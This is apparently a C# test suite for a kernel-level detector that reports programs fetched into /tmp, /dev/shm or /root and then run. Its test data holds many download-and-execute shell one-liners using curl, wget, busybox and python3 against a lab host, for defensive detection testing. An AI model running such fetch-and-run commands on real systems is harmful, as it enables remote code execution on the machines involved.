namespace Sallyport.Kernel.Tests;

/// <summary>
/// Something is fetched into a temporary or a home folder and run there, by whatever brings it. What is fetched and not run, or run
/// and not fetched, is none.
/// </summary>
public sealed class DroppedProgramTests(OwnFoldersLabFixture fixture) : KernelTest(fixture), IClassFixture<OwnFoldersLabFixture>
{
    /// <summary>The last one is the home folder of the job's user.</summary>
    private static readonly string[] s_folders = ["/tmp", "/dev/shm", "/root"];

    [Theory]
    [EveryMode(
        "curl -sS -o FILE URL; sh FILE",
        "curl -sS -o FILE.part URL; mv FILE.part FILE; sh -e FILE",
        "curl -sS URL | tee FILE; sh FILE",
        "mkdir FILE; curl -sS URL.tar | tar -xf - -C FILE; sh FILE/payload",
        "curl -sS URL.tar | busybox tar -xf - -O > FILE; sh FILE",
        "wget -q -O FILE URL; sh FILE",
        "busybox wget -q -O FILE URL; sh FILE",
        "sh -c 'curl -sS -o FILE URL; cp /bin/echo FILE.2; curl -sS -o FILE.3 URL; cat FILE.2 > FILE.3; chmod 755 FILE.3; FILE.3 x'",
        "python3 -c 'import urllib.request; urllib.request.urlretrieve(\"URL\", \"FILE\")'; sh FILE")]
    public async Task A_program_that_was_fetched_and_is_run_is_found(LabMode mode, string script)
    {
        var downloader = ((string[])["curl", "busybox", "wget", "python3"]).First(name => script.Contains(name + " -", StringComparison.Ordinal)
            || script.StartsWith(name, StringComparison.Ordinal));
        foreach (var folder in s_folders)
        {
            var file = $"{folder}/dropped-{Guid.NewGuid():N}";
            var run = await Lab.RunAsync(mode, Script($"trap 'rm -rf {file}*' EXIT", In(file, script)) with { Allow = ["v4.test:80"] });
            Assert.True(run.Process.ExitCode == 0 && run.Traffic.Contains("/payload"), run.ToString());
            if (mode != LabMode.Off)
            {
                var row = AssertFound(run, "dropped-program-run", "reported", null);
                Assert.StartsWith(file, row.Evidence["program"], StringComparison.Ordinal);
                Assert.Contains(row.Evidence["program"], Line(run, row), StringComparison.Ordinal);
                Assert.StartsWith(downloader, Path.GetFileName(row.Evidence["downloadedBy"]), StringComparison.Ordinal);
            }
        }
    }

    [Theory]
    [InlineData("curl -sS -o FILE URL; cat FILE")]
    [InlineData("wget -q -O FILE URL; cat FILE")]
    [InlineData("mkdir FILE; curl -sS URL.tar | tar -xf - -C FILE; cat FILE/payload")]
    [InlineData("curl -sS -o work-FILE URL; sh work-FILE; rm work-FILE")]
    [InlineData("curl -sS URL; printf 'exit 0' > FILE; sh FILE; echo 'int main(void) { return 0; }' | gcc -x c -o FILE.out -; FILE.out")]
    [InlineData("cp /bin/true FILE; FILE; rm FILE")]
    [InlineData("mkdir FILE; echo 'exit 0' > FILE.sh; tar -cf FILE.tar -C / ${FILE#/}.sh; tar -xf FILE.tar -C FILE; sh FILE${FILE}.sh")]
    public async Task What_is_fetched_or_made_is_none(string script)
    {
        foreach (var folder in s_folders)
        {
            var file = $"{folder}/made-{Guid.NewGuid():N}";
            var run = await Lab.RunAsync(LabMode.Audit, Script(
                $"trap 'rm -rf {file}*' EXIT",
                "cd /run/lab/work",
                In(file, script
                    .Replace("work-FILE", Path.GetFileName(file), StringComparison.Ordinal)
                    .Replace("${FILE#/}", file[1..], StringComparison.Ordinal)
                    .Replace("${FILE}", file, StringComparison.Ordinal))));
            Assert.True(run.Process.ExitCode == 0 && run.Report.Findings.Count == 0, run.ToString());
        }
    }

    private static string In(string file, string script) => script
        .Replace("FILE", file, StringComparison.Ordinal).Replace("URL", "http://v4.test/payload", StringComparison.Ordinal);
}
